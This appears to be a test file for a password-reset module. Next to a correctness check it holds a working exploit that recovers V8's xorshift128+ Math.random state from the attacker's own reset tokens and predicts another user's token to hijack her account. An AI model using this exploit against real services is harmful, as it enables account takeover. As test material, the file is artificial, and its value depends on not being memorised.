import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'

type Code = typeof import('./password-resets.ts')

const start = Date.UTC(2026, 1, 3, 10)

function open({ PasswordResets }: Code) {
  const passwords: Record<string, string> = {}
  const mails: { to: string; token: string }[] = []
  const emails = ['mallory@example.com', 'ada@example.com']
  const accounts = new Map(
    emails.map((email) => [email, { email, setPassword: (password: string) => void (passwords[email] = password) }]),
  )
  const resets = new PasswordResets(accounts, (to, token) => mails.push({ to, token }))
  return { passwords, mails, resets }
}

export function works(code: Code) {
  const { passwords, mails, resets } = open(code)
  resets.request('nobody@example.com', start)
  assert.equal(mails.length, 0)
  resets.request('Ada@example.com', start)
  resets.request('ada@example.com', start + 1)
  const [first, second] = mails
  assert.notEqual(first?.token, second?.token)
  assert.equal(resets.redeem(first?.token ?? '', 'x', start + 2), false, 'only the newest is good')
  assert.equal(resets.redeem(second?.token ?? '', 'new', start + 2), true)
  assert.equal(passwords['ada@example.com'], 'new')
  assert.equal(resets.redeem(second?.token ?? '', 'again', start + 3), false, 'only once')
  resets.request('ada@example.com', start)
  assert.equal(resets.redeem(mails.at(-1)?.token ?? '', 'late', start + 3_600_000), false)
}

/** Asks for some tokens of his own, computes the state of the generator, and so the token of somebody else. */
export function exploit(code: Code): boolean {
  const { passwords, mails, resets } = open(code)
  // The generator hands out its values in portions of 64; where a portion ends in between, the attacker tries again.
  for (let attempt = 0; attempt < 5; attempt++) {
    const now = start + attempt * 60_000
    for (let i = 0; i < 3; i++) resets.request('mallory@example.com', now + i)
    const own = mails.slice(-3).map(({ token }) => token)
    const served = now + 20
    resets.request('ada@example.com', served)

    const words = own.flatMap((token) => (token.split('-').at(-1) ?? '').match(/.{8}/g) ?? []).map((hex) => Number.parseInt(hex, 16))
    const predicted = predict(words, words.length / 3)?.map((word) => word.toString(16).padStart(8, '0')).join('') ?? ''
    // The mail's time tells when the server worked, give or take some milliseconds.
    for (let time = served - 15; time <= served + 15; time++) {
      const hash = createHash('sha256').update(`ada@example.com:${time}`).digest('hex')
      for (const guess of [predicted, `${time.toString(16)}-${predicted}`, hash])
        if (resets.redeem(guess, 'taken', now + 30) && passwords['ada@example.com'] === 'taken') return true
    }
  }
  return false
}

/** 64 bits, each the sum of some of the 128 unknown bits. */
type Bits = bigint[]
const left = (x: Bits, n: number) => x.map((_, i) => x[i - n] ?? 0n)
const right = (x: Bits, n: number) => x.map((_, i) => x[i + n] ?? 0n)
const add = (x: Bits, y: Bits) => x.map((bits, i) => bits ^ (y[i] as bigint))

/** One step of V8's generator, xorshift128+, which is linear: sums of bits become sums of bits. */
function step([a, b]: [Bits, Bits]): [Bits, Bits] {
  let next = add(a, left(a, 23))
  next = add(next, right(next, 17))
  return [b, add(add(next, b), right(b, 26))]
}

/**
 * The next `count` values after the given ones, all of 32 bits. V8 fills a list of 64 values and takes from its end, so what was seen first was made last:
 * the unknowns are the state of the last value to come, and each earlier one is a step away.
 */
function predict(seen: number[], count: number): number[] | undefined {
  const unknowns = (from: number) => Array.from({ length: 64 }, (_, i) => 1n << BigInt(from + i))
  let state: [Bits, Bits] = [unknowns(1), unknowns(65)]
  const states: Bits[] = []
  for (let i = 0; i < count + seen.length; i++) {
    states.push(state[0])
    state = step(state)
  }
  const equations = seen.toReversed().flatMap((value, i) =>
    Array.from({ length: 32 }, (_, bit) => (states[count + i]?.[32 + bit] as bigint) | BigInt((value >>> bit) & 1)),
  )
  const pivots = new Map<number, bigint>()
  for (let row of equations) {
    for (let i = 128; i > 0 && row > 1n; i--) {
      if (((row >> BigInt(i)) & 1n) === 0n) continue
      const pivot = pivots.get(i)
      if (pivot === undefined) {
        pivots.set(i, row)
        row = 0n
      } else row ^= pivot
    }
    if (row === 1n) return undefined
  }
  if (pivots.size < 128) return undefined
  let known = 1n
  const parity = (bits: bigint) => BigInt(bits.toString(2).replaceAll('0', '').length % 2)
  for (let i = 1; i <= 128; i++) known |= parity((pivots.get(i) as bigint) & known) << BigInt(i)
  return Array.from({ length: count }, (_, i) => {
    const bits = states[count - 1 - i] as Bits
    return Number(bits.slice(32).reduce((value, sum, bit) => value | (parity(sum & known) << BigInt(bit)), 0n))
  })
}
